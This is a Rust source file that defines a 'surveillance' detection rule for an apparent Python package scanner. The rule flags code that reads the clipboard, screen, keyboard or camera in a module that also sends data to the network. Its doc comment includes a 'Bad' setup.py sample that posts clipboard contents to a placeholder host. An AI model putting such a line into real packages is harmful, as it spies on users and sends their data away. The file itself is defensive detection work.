//! ## What it detects
//!
//! Clipboard, screen, keyboard or camera, in a module that also sends to the network.
//!
//! ## Why it is bad
//!
//! It is spyware unless the package says that this is its purpose.
//!
//! ## Innocent lookalikes
//!
//! Automation and support tools; their code runs when called.
//!
//! ## Bad
//!
//! ```python setup.py
//! import pyperclip, requests
//! requests.post('http://x.example.invalid', data=pyperclip.paste())
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import pyperclip
//! print(pyperclip.paste())
//! ```

use fondaco_python::{Api, Call, Taint};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use super::secret_exfiltration::of;
use crate::sending::sent;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("surveillance"),
    title: "watches the user and sends it",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Surveillance),
    weight: 1.2,
    check,
};

/// A request that carries what was seen or heard.
fn sends_it(call: &Call) -> bool {
    sent(call).any(|(_, value)| of(value).has(Taint::SURVEILLANCE))
}

fn check(package: &Package<'_>, hits: &mut Hits) {
    for unit in package.units() {
        let sends = unit.calls.iter().any(|call| call.api == Some(Api::NetworkSend) || sends_it(call));
        for call in unit.calls.iter().filter(|call| sends && call.api == Some(Api::Surveillance)) {
            hits.call(unit, call, format!("{} in a module that sends to the network", call.callee));
        }
    }
}
